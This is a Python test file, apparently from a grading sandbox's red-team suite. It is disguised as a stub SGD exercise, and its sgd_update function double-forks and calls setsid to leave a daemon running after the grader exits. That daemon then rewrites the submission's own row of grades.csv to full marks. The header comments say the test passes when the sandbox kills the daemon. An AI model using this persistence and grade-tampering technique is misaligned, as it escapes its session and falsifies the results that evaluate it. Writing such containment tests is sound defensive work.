# attack: double fork + setsid into a python daemon (its command line holds {TAG}) that waits for the batch to finish, then rewrites its own row of grades.csv to full marks
# holds: the daemon dies with the worker (PID 1 of its namespace): no process with {TAG} survives, and grades.csv is byte-identical 8 s after the batch
"""Exercise 3: A manual SGD step (attacker: leaves a daemon behind)."""

import os
import sys
import time

DAEMON = r'''
import os, time
out, me = "{RESULTS}", "03_daemon_double_fork_rewrites_csv"
deadline = time.time() + 90
while time.time() < deadline:
    path = os.path.join(out, "grades.csv")
    if os.path.exists(path):
        time.sleep(1)
        try:
            with open(path) as f:
                lines = f.read().splitlines()
            lines = [me + ",10,10,10" if line.startswith(me + ",") else line for line in lines]
            with open(path + ".new", "w") as f:
                f.write("\n".join(lines) + "\n")
            os.replace(path + ".new", path)
        except OSError:
            pass
        break
    time.sleep(0.25)
'''


def _daemon() -> str:
    first = os.fork()
    if first:
        os.waitpid(first, 0)
        deadline = time.monotonic() + 1.5
        while time.monotonic() < deadline:  # is it up? (its command line names it)
            for pid in filter(str.isdigit, os.listdir("/proc")):
                try:
                    with open(f"/proc/{pid}/cmdline", "rb") as f:
                        if b"daemon.{TAG}" in f.read():
                            return f"daemon running as pid {pid} of the jail, waiting for grades.csv"
                except OSError:
                    pass
            time.sleep(0.05)
        return "the daemon did not come up"
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        devnull = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(devnull, fd)
        os.execv(sys.executable, [sys.executable, "-S", "-c", DAEMON, "daemon.{TAG}"])
    finally:
        os._exit(0)


def sgd_update(params, lr):
    if os.getpid() == 1 and not os.__dict__.get("_attack_done"):
        os._attack_done = True
        raise RuntimeError("attack report: " + _daemon())
    raise NotImplementedError


def sgd_momentum_update(params, velocities, lr, momentum):
    raise NotImplementedError
